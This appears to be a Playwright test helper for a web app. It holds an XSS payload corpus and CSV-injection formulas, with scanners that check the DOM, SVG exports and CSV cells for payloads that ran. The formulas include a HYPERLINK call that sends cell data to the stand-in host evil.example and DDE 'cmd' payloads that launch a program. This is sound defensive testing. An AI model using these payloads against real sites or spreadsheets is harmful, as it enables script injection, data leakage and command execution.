import { expect, type Page } from '@playwright/test';

/**
 * The XSS corpus: text a user, a share link or an imported file may put in any free-text field.
 * Each markup payload, were it ever run, sets `window.__xss` to its number or opens an alert, so
 * the page's canary and the dialog listener (pages/guard.ts) see it; each is at most 200
 * characters and on one line, so every one-line field takes it. The app must show each one as
 * the text it is, everywhere.
 */
export const MARKUP: readonly string[] = [
  `<script>window.__xss=1</script>`,
  `<img src=x onerror="window.__xss=2">`,
  // Where a value could become a link.
  `javascript:window.__xss=3`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__xss=4</script>"></iframe></foreignObject></svg>`,
  // Out of a chart's <text>, into the SVG.
  `</text><script>window.__xss=5</script><text>`,
  // Attribute breakers, double and single quoted.
  `"><svg onload="window.__xss=6">`,
  `'><img src=x onerror='window.__xss=7'>`,
  `<a href="javascript:window.__xss=8">link</a>`,
  `]]><script>window.__xss=9</script><![CDATA[`,
  `<iframe src="javascript:alert(10)"></iframe>`,
  `<details open ontoggle="alert(11)">`,
  `<style>*{display:none}</style><b>12</b>`,
  // Already escaped: must show as typed, never decoded into markup.
  `&lt;script&gt;window.__xss=13&lt;/script&gt; &amp; &quot;`,
];

/**
 * Cells a spreadsheet would run as a formula (OWASP's CSV injection list: = + - @, tab, CR).
 * Tab and CR are only for fields that take control characters (notes) or for files.
 */
export const FORMULAS: readonly string[] = [
  `=HYPERLINK("https://evil.example/?"&A1,"Click")`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
];
export const CONTROL_FORMULAS: readonly string[] = ['\t=1+2', '\r=3+4'];

/** Every one-line payload, markup first. */
export const ONE_LINE: readonly string[] = [...MARKUP, ...FORMULAS];

/** The `i`-th payload, going round the corpus, so consecutive fields get different ones. */
export function payload(i: number): string {
  return ONE_LINE[i % ONE_LINE.length];
}

/** Whether a CSV cell would start a formula in a spreadsheet. */
export const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * What must never be in the page's body: elements that run or load something, any `on…`
 * attribute, and links or sources to `javascript:` or HTML `data:` URLs. The app itself uses
 * none of them (no <img>, no <style>, no inline handlers), so any is a payload at work.
 * Returns one line per finding; the head's scripts are counted (index.html has two inline ones,
 * the loader and the service worker's registration, and the wasm-bindgen module none inline),
 * and its one <style>, the build's stylesheet.
 */
export async function scanDom(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = [];
    const FORBIDDEN = new Set([
      'script', 'iframe', 'frame', 'object', 'embed', 'foreignobject', 'style', 'link', 'meta', 'base', 'img', 'image',
    ]);
    const URL_ATTRS = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'srcdoc', 'data']);
    for (const el of document.body.querySelectorAll('*')) {
      const name = el.localName.toLowerCase();
      if (FORBIDDEN.has(name)) found.push(`<${name}> ${el.outerHTML.slice(0, 80)}`);
      for (const attr of el.attributes) {
        const a = attr.name.toLowerCase();
        const v = attr.value.trim().toLowerCase();
        if (a.startsWith('on')) found.push(`${a}= on <${name}>`);
        if (URL_ATTRS.has(a) && (v.startsWith('javascript:') || v.startsWith('data:text/html') || a === 'srcdoc')) {
          found.push(`${a}="${attr.value.slice(0, 40)}" on <${name}>`);
        }
      }
    }
    const scripts = document.head.querySelectorAll('script').length;
    if (scripts !== 2) found.push(`${scripts} scripts in the head, not 2`);
    // The build's stylesheet is the head's one <style> (scripts/offline.mjs inlines it); no other.
    const styles = [...document.querySelectorAll('style')];
    if (styles.length !== 1 || styles[0].parentElement !== document.head) found.push(`${styles.length} <style> elements, not the head's one`);
    return found;
  });
}

/** The SVG text parsed in the page as the browser would open the downloaded file. */
export interface SvgCheck {
  /** Parser errors, elements that run or load something, `on…` attributes, script links. */
  problems: string[];
  /** The text of every <text> element. */
  texts: string[];
}

export async function checkSvg(page: Page, svg: string): Promise<SvgCheck> {
  return page.evaluate((source) => {
    const doc = new DOMParser().parseFromString(source, 'image/svg+xml');
    const problems: string[] = [];
    if (doc.querySelector('parsererror')) problems.push(`not well-formed: ${doc.querySelector('parsererror')!.textContent}`);
    if (doc.documentElement.localName !== 'svg') problems.push(`root is <${doc.documentElement.localName}>`);
    const ALLOWED = new Set(['svg', 'g', 'rect', 'line', 'polyline', 'polygon', 'circle', 'text', 'path', 'title', 'desc']);
    for (const el of doc.querySelectorAll('*')) {
      if (!ALLOWED.has(el.localName)) problems.push(`<${el.localName}>`);
      for (const attr of el.attributes) {
        const a = attr.name.toLowerCase();
        if (a.startsWith('on') || a === 'style' || a.endsWith('href')) problems.push(`${a}= on <${el.localName}>`);
      }
    }
    const texts = [...doc.querySelectorAll('text')].map((t) => (t.textContent ?? '').trim());
    return { problems, texts };
  }, svg);
}

/** Cells of an RFC 4180 file (quoted cells with doubled quotes, CRLF or LF rows). */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < body.length; i++) {
    const c = body[i];
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n' || c === '\r') {
      if (c === '\r' && body[i + 1] === '\n') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

/** A number as the app writes one: a spreadsheet reads it as that number, never as a formula. */
const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;

/** Every cell of `csv` that a spreadsheet would run, with its row and column. */
export function formulaCells(csv: string): string[] {
  return parseCsv(csv).flatMap((row, r) =>
    row.flatMap((cell, c) =>
      FORMULA_START.test(cell) && !NUMBER.test(cell) ? [`row ${r + 1}, column ${c + 1}: ${JSON.stringify(cell)}`] : [],
    ),
  );
}

/** Asserts the page's body holds nothing a payload could have made. */
export async function expectInertDom(page: Page, where: string) {
  expect(await scanDom(page), `${where}: the page holds only the app's own markup`).toEqual([]);
}

/** Keys whose string values are free text a user wrote (team `role` too; a DMU `role` and a migration's `cause` are choices; a quarter must read 2026-Q1). */
const FREE_TEXT_KEYS = new Set([
  'name', 'note', 'notes', 'not_applicable', 'owner', 'comment', 'sector', 'country', 'key_account_manager',
  'executive_sponsor', 'plan_owner', 'title', 'function', 'label', 'manager', 'account_name',
]);
const MULTI_LINE_KEYS = new Set(['note', 'notes', 'comment']);

/**
 * `doc` (a stored workspace) with every free-text value replaced by a payload: the same text
 * always by the same payload, so a manager named on an account, in the litmus answers and in
 * the time allocation stays one manager; each distinct text gets a number after its payload,
 * so names stay distinct. Notes and comments start with a tab or CR formula in turn. The
 * manager names that key the litmus answers are replaced too.
 */
export function withPayloads(doc: unknown): any {
  const seen = new Map<string, string>();
  const replace = (text: string, multiLine: boolean): string => {
    if (text === '') return text;
    let value = seen.get(text);
    if (value === undefined) {
      const k = seen.size;
      value = `${payload(k)} ${k}`;
      seen.set(text, value);
    }
    return multiLine ? `${CONTROL_FORMULAS[seen.size % CONTROL_FORMULAS.length]} ${value}` : value;
  };
  const walk = (value: unknown, path: string[]): unknown => {
    if (Array.isArray(value)) return value.map((v) => walk(v, path));
    if (value && typeof value === 'object') {
      const managers = path.at(-1) === 'managers' && path.at(-2) === 'litmus';
      return Object.fromEntries(
        Object.entries(value).map(([k, v]) => [managers ? replace(k, false) : k, walk(v, [...path, k])]),
      );
    }
    const key = path.at(-1) ?? '';
    const freeText = FREE_TEXT_KEYS.has(key) || (key === 'role' && path.includes('team'));
    if (typeof value === 'string' && freeText) return replace(value, MULTI_LINE_KEYS.has(key));
    return value;
  };
  return walk(structuredClone(doc), []);
}
